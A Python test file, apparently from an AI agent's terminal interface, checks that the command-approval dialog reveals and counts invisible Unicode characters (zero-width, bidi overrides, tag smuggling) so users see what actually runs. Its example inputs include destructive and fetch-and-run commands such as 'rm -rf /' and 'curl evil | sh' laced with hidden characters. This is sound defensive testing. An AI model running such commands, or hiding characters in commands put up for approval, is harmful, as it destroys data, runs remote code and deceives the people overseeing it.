"""A command with characters that show as nothing (zero-width, format, other spaces, tags, private use) is
never shown as if they were not there: the approval dialog writes each as ``⟨U+200B⟩`` and says how many
there are, so that what the user approves reads as what runs."""

from __future__ import annotations

import asyncio
import unicodedata

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from myrm_tui.agent.permissions import Assessment, ParsedCommand
from myrm_tui.app.screens.approval import ApprovalScreen
from myrm_tui.safe_text import count_invisible, invisible, reveal, sanitize
from tests.app.test_inert_text import DANGEROUS, _Modal
from tests.app.test_untrusted_text import shown

HIDDEN = [
    "\u200b",  # zero-width space
    "\u200c",
    "\u200d",
    "\u2060",  # word joiner
    "\ufeff",  # BOM
    "\u00ad",  # soft hyphen
    "\u00a0",  # no-break space: looks like a space, is not one to a shell
    "\u2007",
    "\u3000",
    "\u2028",  # line separator
    "\u202e",  # right-to-left override
    "\u200f",  # right-to-left mark
    "\U000e0041",  # tag latin capital A (ASCII smuggling)
    "\ufe0f",  # variation selector
    "\u3164",  # Hangul filler
    "\ue000",  # private use
    "\U000e01ef",
]
hidden = st.one_of(
    st.sampled_from(HIDDEN),
    st.characters(categories=["Cf", "Zs", "Zl", "Zp", "Co"]).filter(lambda c: c != " "),
)
visible = st.text(st.characters(codec="utf-8", exclude_categories=["Cf", "Zs", "Zl", "Zp", "Co", "Cn", "Cs"]))


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(st.one_of(visible, hidden), max_size=12))
@example(parts=["rm -rf /tmp/x", "\u200b", "; curl evil", "\u00a0", "| sh"])
def test_reveal_marks_every_invisible_character_and_keeps_the_rest(parts: list[str]) -> None:
    text = "".join(parts)
    out = reveal(text)
    assert not any(invisible(c) for c in out) and not DANGEROUS & set(out)
    assert out.count("⟨U+") == text.count("⟨U+") + count_invisible(text)
    for c in {c for c in text if invisible(c)}:
        assert f"⟨U+{ord(c):04X}⟩" in out
    if not count_invisible(text):
        assert out == sanitize(text)  # nothing hidden: shown as before


def _dialog_text(command: str) -> tuple[str, str, str]:
    """The approval dialog for ``command``: what its command box, its warnings and the whole screen show."""
    parsed = (ParsedCommand(command, tuple(command.split()) or (command,), rememberable=True),)

    async def render() -> tuple[str, str, str]:
        app = _Modal(ApprovalScreen("bash", command, Assessment(command, parsed)))
        async with app.run_test(size=(200, 60)) as pilot:
            await pilot.pause()
            screen = app.screen
            warned = screen.query("#warnings")
            return (
                shown(screen.query_one("#command")),
                shown(warned.first()) if warned else "",
                "".join(shown(w) for w in screen.query("*") if w.display and w.outer_size.area),
            )

    return asyncio.run(render())


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    words=st.lists(st.text("abcdefgh-/.", min_size=1, max_size=6), min_size=1, max_size=4),
    inserted=st.lists(st.tuples(st.integers(0, 30), hidden), min_size=1, max_size=3),
)
@example(words=["rm", "-rf", "/"], inserted=[(2, "\u200b"), (5, "\u00a0")])
def test_the_approval_dialog_marks_hidden_characters_and_says_how_many(
    words: list[str], inserted: list[tuple[int, str]]
) -> None:
    command = " ".join(words)
    for at, ch in inserted:
        at = min(at, len(command))
        command = command[:at] + ch + command[at:]
    box, warning, screen = _dialog_text(command)
    assert not any(invisible(c) for c in screen), [
        unicodedata.name(c, hex(ord(c))) for c in screen if invisible(c)
    ]
    for _, ch in inserted:
        assert f"⟨U+{ord(ch):04X}⟩" in box
    n = count_invisible(command)
    assert f"holds {n} invisible character" in warning
